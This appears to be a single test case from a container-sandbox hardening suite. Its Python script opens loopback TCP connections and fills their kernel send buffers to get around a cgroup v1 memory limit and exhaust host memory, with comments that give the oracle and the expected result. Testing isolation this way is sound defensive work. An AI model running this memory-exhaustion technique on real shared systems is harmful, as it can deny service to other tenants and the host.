# guest: hides memory in the buffers of connections to itself
# source: memory.kmem.tcp.limit_in_bytes of cgroup v1, which counts apart
# attacks: the host's memory
# walls: MemoryLimit
# observer: sockets_taken
# oracle: the kernel's count of TCP memory, read from outside, grew by more than was granted
# status: ok, limit
# credit: held|"name": "memory"
# note: v1 counts these buffers apart and makes the sender wait; v2 counts them as memory, and ends the box.
# options: --memory 48MiB
import socket

from attack import hold, tell

server = socket.socket()
server.bind(("127.0.0.1", 0))
server.listen(200)
pairs = []
total = 0
block = bytes(1 << 20)
for _ in range(100):
    ours = socket.create_connection(server.getsockname())
    pairs.append((ours, server.accept()[0]))
    ours.setblocking(False)
    try:
        while total < 160 << 20:
            total += ours.send(block)
    except BlockingIOError:
        continue
hold("full")
tell("held", total)
